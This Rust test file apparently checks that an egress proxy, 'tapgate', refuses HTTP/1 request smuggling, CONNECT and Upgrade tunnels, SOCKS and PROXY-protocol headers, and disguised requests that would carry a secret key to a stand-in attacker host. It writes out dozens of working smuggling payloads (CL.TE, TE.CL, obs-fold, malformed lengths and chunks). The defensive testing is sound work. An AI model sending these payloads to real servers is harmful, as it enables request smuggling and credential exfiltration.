//! HTTP/1: request smuggling, tunnels, requests for a proxy, and other protocols at the same listener.

use super::{
    field::{Event, Field, Real, on_field, the_attacker_sees_what_comes},
    wire::{Offer, connect, https, spoken, tcp},
};
use std::net::SocketAddr;
use tapgate_e2e::sites::{API, ECHO, EVIL, FILES};

const VALUE: &str = "sk-live-http1-5e19c0d27fa84b36";
const REALS: &[Real] = &[Real { value: VALUE, sites: &[ECHO] }];

fn prepare(field: &mut Field<'_>) -> String {
    field.api().rule("host", ECHO.name).unwrap();
    field.api().rule("host", API.name).unwrap();
    field.api().secret("key", "KEY", VALUE, &[ECHO.name]).unwrap()
}

/// In clear text, and inside TLS that is opened.
fn both_ways(
    field: &mut Field<'_>,
    what: &str,
    bytes: &[u8],
    mut after: impl FnMut(&mut Field<'_>, &str, &[u8]),
) {
    let (clear, tls) = (SocketAddr::from((EVIL.v4, 80)), SocketAddr::from((EVIL.v4, 443)));
    let what_clear = format!("{what}, in clear text");
    let got = field.guest(&what_clear, || tcp(clear, bytes));
    after(field, &what_clear, &got);
    let what_tls = format!("{what}, in TLS");
    let got = field.guest(&what_tls, || https(tls, ECHO.name, bytes));
    after(field, &what_tls, &got);
}

/// The targets of the requests that the allowed server got, in order.
fn targets(field: &Field<'_>) -> Vec<String> {
    let seen = field.world().journal().http(ECHO.name).unwrap();
    seen.iter().map(|entry| entry["target"].as_str().unwrap().to_owned()).collect()
}

fn smuggled(key: &str) -> Vec<(&'static str, String)> {
    let host = format!("Host: {}\r\nX-Key: {key}\r\n", ECHO.name);
    let evil = format!("GET /smuggled HTTP/1.1\r\nHost: {}\r\nX-Key: {key}\r\n\r\n", EVIL.name);
    let post = |fields: &str| format!("POST /outer HTTP/1.1\r\n{host}{fields}\r\n");
    let chunked = "Transfer-Encoding: chunked\r\n";
    vec![
        ("CL.TE", post(&format!("Content-Length: 6\r\n{chunked}")) + "0\r\n\r\n" + &evil),
        ("TE.CL", post(&format!("{chunked}Content-Length: 4\r\n")) + "0\r\n\r\n" + &evil),
        (
            "chunked, then identity",
            post(&format!("{chunked}Transfer-Encoding: identity\r\n")) + "0\r\n\r\n" + &evil,
        ),
        ("identity with a length", post("Transfer-Encoding: identity\r\nContent-Length: 0\r\n") + &evil),
        ("a space before the colon", post("Transfer-Encoding : chunked\r\n") + "0\r\n\r\n" + &evil),
        ("a tab in the value", post("Transfer-Encoding:\x0bchunked\r\n") + "0\r\n\r\n" + &evil),
        ("xchunked", post("Transfer-Encoding: xchunked\r\n") + "0\r\n\r\n" + &evil),
        ("obs-fold", post("Transfer-Encoding:\r\n chunked\r\n") + "0\r\n\r\n" + &evil),
        ("obs-fold in any field", post("X: a\r\n b\r\nContent-Length: 0\r\n") + &evil),
        ("chunked is not last", post("Transfer-Encoding: chunked, gzip\r\n") + "0\r\n\r\n" + &evil),
        ("chunked twice", post("Transfer-Encoding: chunked, chunked\r\n") + "0\r\n\r\n" + &evil),
        ("HTTP/1.0 with chunked", post(chunked).replace("HTTP/1.1", "HTTP/1.0") + "0\r\n\r\n" + &evil),
        ("two lengths in one", post("Content-Length: 0, 48\r\n") + &evil),
        ("two lengths", post("Content-Length: 0\r\nContent-Length: 48\r\n") + &evil),
        ("a length with a sign", post("Content-Length: +0\r\n") + &evil),
        ("a length in hex", post("Content-Length: 0x0\r\n") + &evil),
        ("a negative length", post("Content-Length: -1\r\n") + &evil),
        ("a length too long", post("Content-Length: 99999999999999999999\r\n") + &evil),
        ("a bare LF after the line", post("Content-Length: 0\r\n").replacen("\r\n", "\n", 1) + &evil),
        ("bare LF throughout", post("Content-Length: 0\r\n").replace("\r\n", "\n") + &evil),
        ("a bare CR in a field", post("X: a\rTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + &evil),
        ("NUL in a field", post("X: a\0b\r\nContent-Length: 0\r\n") + &evil),
        ("a field without a name", post(": chunked\r\nContent-Length: 0\r\n") + &evil),
        ("chunks with bare LF", post(chunked) + "0\n\n" + &evil),
        ("an extension with bare LF", post(chunked) + "0;\n" + &evil),
        ("a chunk's size too long", post(chunked) + "00000000000000000\r\n\r\n" + &evil),
        ("a chunk longer than it says", post(chunked) + "1\r\nab\r\n0\r\n\r\n" + &evil),
        ("a chunk's size with 0x", post(chunked) + "0x1\r\na\r\n0\r\n\r\n" + &evil),
        ("a chunk's size with a sign", post(chunked) + "+1\r\na\r\n0\r\n\r\n" + &evil),
    ]
}

#[test]
fn no_request_is_smuggled_in_another() {
    on_field(REALS, |field| {
        let key = prepare(field);
        let before = field.arrived(EVIL);
        for (what, bytes) in smuggled(&key) {
            both_ways(field, what, bytes.as_bytes(), |field, what, got| {
                field.expect_refusal(what, &["bad_request"]);
                let text = String::from_utf8_lossy(got);
                field.check(text.starts_with("HTTP/1.1 4"), || format!("{what}: {text}"));
            });
        }
        let targets = targets(field);
        field.check(!targets.iter().any(|target| target.contains("smuggled")), || {
            format!("smuggled: {targets:?}")
        });
        whole_bodies(field, &key);
        let arrived = field.arrived(EVIL) - before;
        field.check(arrived == 0, || format!("{arrived} packets came to the attacker"));
        the_attacker_sees_what_comes(field);
    });
}

/// What follows a body is the next request, decided anew; extensions of chunks go no further.
fn whole_bodies(field: &mut Field<'_>, key: &str) {
    let (echo, evil) = (ECHO.name, EVIL.name);
    let inner = format!("GET /inner HTTP/1.1\r\nHost: {evil}\r\n\r\n");
    let rows = [
        ("a length", format!("Content-Length: {}\r\n\r\n{inner}", inner.len())),
        (
            "chunks with extensions",
            format!(
                "Transfer-Encoding: chunked\r\n\r\n{:x};a=\"b;c\";{key}\r\n{inner}\r\n0;x\r\n\r\n",
                inner.len()
            ),
        ),
    ];
    for (how, body) in rows {
        let next = format!("GET /next HTTP/1.1\r\nHost: {evil}\r\nX-Key: {key}\r\nConnection: close\r\n\r\n");
        let bytes = format!("POST /body HTTP/1.1\r\nHost: {echo}\r\nX-Key: {key}\r\n{body}{next}");
        let from = field.world().journal().mark();
        let what = format!("a body with {how}, and a request behind it");
        let (clear, both) =
            (SocketAddr::from((EVIL.v4, 80)), [Event::Passed("host"), Event::Refused("no_rule")]);
        field.attempt(&what, &both, || tcp(clear, bytes.as_bytes()));
        let seen = from.http(echo).unwrap();
        let bodies: Vec<&str> = seen.iter().filter_map(|entry| entry["body"].as_str()).collect();
        field.check(bodies == [inner.as_str()], || format!("{what}: the server got {bodies:?}"));
    }
}

#[test]
fn no_other_protocol_makes_a_tunnel() {
    on_field(REALS, |field| {
        let key = prepare(field);
        let before = field.arrived(EVIL);
        upgrades_and_connect(field, &key);
        other_protocols(field);
        hidden_requests(field, &key);
        let arrived = field.arrived(EVIL) - before;
        field.check(arrived == 0, || format!("{arrived} packets came to the attacker"));
        let own =
            format!("GET /own HTTP/1.1\r\nHost: {}\r\nX-Key: {key}\r\nConnection: close\r\n\r\n", ECHO.name);
        let to = SocketAddr::from((EVIL.v4, 443));
        field.attempt("the value's own host", &[Event::Passed("host")], || {
            https(to, ECHO.name, own.as_bytes())
        });
        the_attacker_sees_what_comes(field);
    });
}

fn upgrades_and_connect(field: &mut Field<'_>, key: &str) {
    let (echo, evil) = (ECHO.name, EVIL.name);
    let rest = format!("X-Key: {key}\r\nConnection: close\r\n\r\n");
    let upgrade = |to: &str, more: &str| {
        format!(
            "GET /up HTTP/1.1\r\nHost: {echo}\r\nConnection: Upgrade{more}\r\nUpgrade: {to}\r\n\r\nGET /in HTTP/1.1\r\nHost: {evil}\r\n{rest}"
        )
    };
    let settings = ", HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__";
    let rows: Vec<(&str, String, &[&str])> = vec![
        (
            "CONNECT to the attacker",
            format!(
                "CONNECT {evil}:80 HTTP/1.1\r\nHost: {evil}:80\r\n\r\nGET / HTTP/1.1\r\nHost: {evil}\r\n{rest}"
            ),
            &["tunnel", "no_rule", "name_mismatch"],
        ),
        (
            "CONNECT to an allowed name",
            format!(
                "CONNECT {echo}:443 HTTP/1.1\r\nHost: {echo}:443\r\n\r\nGET / HTTP/1.1\r\nHost: {evil}\r\n{rest}"
            ),
            &["tunnel"],
        ),
        (
            "CONNECT to an address",
            format!("CONNECT {}:80 HTTP/1.1\r\nHost: {echo}\r\n{rest}", EVIL.v4),
            &["tunnel", "name_mismatch", "bad_request", "address_literal"],
        ),
        ("Upgrade: tcp", upgrade("tcp", ""), &["tunnel"]),
        ("Upgrade: connect-ip", upgrade("connect-ip", ""), &["tunnel"]),
        (
            "a target for a proxy",
            format!("GET http://{evil}/ HTTP/1.1\r\nHost: {evil}\r\n{rest}"),
            &["no_rule", "bad_request"],
        ),
        (
            "a target for a proxy beside an allowed Host",
            format!("GET http://{evil}/ HTTP/1.1\r\nHost: {echo}\r\n{rest}"),
            &["name_mismatch"],
        ),
        (
            "a target with credentials",
            format!("GET http://{echo}@{evil}/ HTTP/1.1\r\nHost: {echo}\r\n{rest}"),
            &["bad_request", "bad_name", "name_mismatch"],
        ),
        ("another scheme", format!("GET ftp://{echo}/ HTTP/1.1\r\nHost: {echo}\r\n{rest}"), &["bad_request"]),
        ("no Host", format!("GET / HTTP/1.1\r\n{rest}"), &["bad_request", "no_name"]),
    ];
    for (what, bytes, reasons) in rows {
        both_ways(field, what, bytes.as_bytes(), |field, what, got| {
            field.expect_refusal(what, reasons);
            let text = String::from_utf8_lossy(got);
            field.check(text.starts_with("HTTP/1.1 4"), || format!("{what}: {text}"));
        });
    }
    let seen = targets(field);
    field.check(seen.is_empty(), || format!("the allowed server got {seen:?}"));
    // These a server may ignore (RFC 9110 §7.8): the request goes on without them, and what follows is decided anew.
    for (what, to, more) in [("Upgrade: h2c", "h2c", settings), ("Upgrade: TLS/1.0", "TLS/1.0", "")] {
        both_ways(field, what, upgrade(to, more).as_bytes(), |field, what, _| {
            let second = if what.ends_with("TLS") { "name_mismatch" } else { "no_rule" };
            field.expect_events(what, &[Event::Passed("host"), Event::Refused(second)]);
        });
    }
    let seen = field.world().journal().http(ECHO.name).unwrap();
    let fields: String = seen.iter().map(|entry| entry["headers"].to_string()).collect();
    let asked = ["upgrade", "http2-settings"].iter().any(|name| fields.contains(name));
    field.check(!asked && seen.len() == 4, || format!("the allowed server got {seen:?}"));
}

/// SOCKS, headers of the PROXY protocol, and whatever else a lenient listener could take for an order to connect.
fn other_protocols(field: &mut Field<'_>) {
    let evil = EVIL.v4.octets();
    let get = format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", EVIL.name);
    let allowed = format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", ECHO.name);
    let rows: Vec<(&str, Vec<u8>)> = vec![
        ("SOCKS4", [&[4, 1, 0, 80][..], &evil, b"x\0", get.as_bytes()].concat()),
        ("SOCKS4a", [&[4, 1, 0, 80, 0, 0, 0, 1][..], b"x\0evil.example.net\0", get.as_bytes()].concat()),
        ("SOCKS5", [&[5, 1, 0, 5, 1, 0, 1][..], &evil, &[0, 80], get.as_bytes()].concat()),
        ("PROXY v1", format!("PROXY TCP4 192.0.2.10 198.51.100.66 1 80\r\n{allowed}").into_bytes()),
        (
            "PROXY v2",
            [&b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c"[..], &evil, &evil, &[0, 1, 0, 80], allowed.as_bytes()]
                .concat(),
        ),
        ("HTTP/0.9", b"GET /\r\n".to_vec()),
        ("HTTP/2's preface alone", b"PRI * HTTP/2.0\r\n\r\n".to_vec()),
        ("SSH", b"SSH-2.0-x\r\n".to_vec()),
        ("octets", b"\0\0\0\0".to_vec()),
    ];
    for (what, bytes) in rows {
        for port in [80, 443, 1080, 3128, 8080] {
            let what = format!("{what} to port {port}");
            let to = SocketAddr::from((EVIL.v4, port));
            let got = field.guest(&what, || tcp(to, &bytes));
            field.expect_refusal(&what, &["no_name", "bad_request", "no_rule", "bad_hello"]);
            let text = String::from_utf8_lossy(&got);
            let answered =
                text.contains("HTTP/1.1 2") || text.contains("HTTP/1.1 1") || got.first() == Some(&5);
            field.check(!answered, || format!("{what}: {text}"));
        }
    }
}

/// What a lenient server takes for a request is none that passes as another protocol: to an address that this VM's DNS gave for an
/// allowed name, and inside TLS that is opened.
fn hidden_requests(field: &mut Field<'_>, key: &str) {
    field.api().rule("host", FILES.name).unwrap();
    let done = field.stage.sh(&format!("dig +short {} A", FILES.name)).unwrap();
    field.check(done.out.trim() == FILES.v4.to_string(), || format!("no pin: {done:?}"));
    let to = SocketAddr::from((FILES.v4, 7));
    // What is no request passes there as that name.
    let got = field.attempt("another protocol by the pin", &[Event::Passed("pin")], || tcp(to, b"\x01echo"));
    field.check(got == b"\x01echo", || format!("by the pin: {got:?}"));
    let evil = format!("Host: {}\r\nX-Key: {key}\r\n\r\n", EVIL.name);
    let rows = [
        format!("GET / HTTP/1.1\r\n{evil}"),
        format!("\r\nGET / HTTP/1.1\r\n{evil}"),
        format!("\n \t\x0bGET / HTTP/1.1\r\n{evil}"),
        format!("GET / HTTP/1.1 \r\n{evil}"),
        format!("GET\t/\tHTTP/1.1\r\n{evil}"),
        format!("GET / HTTP/2.0\r\n{evil}"),
        format!("get / http/1.1\r\n{evil}"),
        format!("GET /\r\n{evil}"),
        format!("POST * RTSP/1.0\r\n{evil}"),
        format!("PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\nGET / HTTP/1.1\r\n{evil}"),
    ];
    let reasons = &["bad_request", "no_rule", "name_mismatch"];
    let from = field.world().journal().mark();
    for bytes in rows {
        let what = format!("hidden by the pin: {bytes:?}");
        field.guest(&what, || tcp(to, bytes.as_bytes()));
        field.expect_refusal(&what, reasons);
        let what = format!("hidden in TLS: {bytes:?}");
        let tls = SocketAddr::from((EVIL.v4, 443));
        let got = field.guest(&what, || {
            spoken(connect(tls).and_then(|s| Offer::default().tls(ECHO.name, s)), bytes.as_bytes())
        });
        field.expect_refusal(&what, reasons);
        field.check(got.starts_with(b"HTTP/1.1 4"), || format!("{what}: {}", String::from_utf8_lossy(&got)));
    }
    let passed = from.entries().unwrap();
    let passed: Vec<_> =
        passed.iter().filter(|entry| entry["kind"] == "http" || entry["body"].is_string()).collect();
    field.check(passed.is_empty(), || format!("hidden requests passed: {passed:?}"));
}
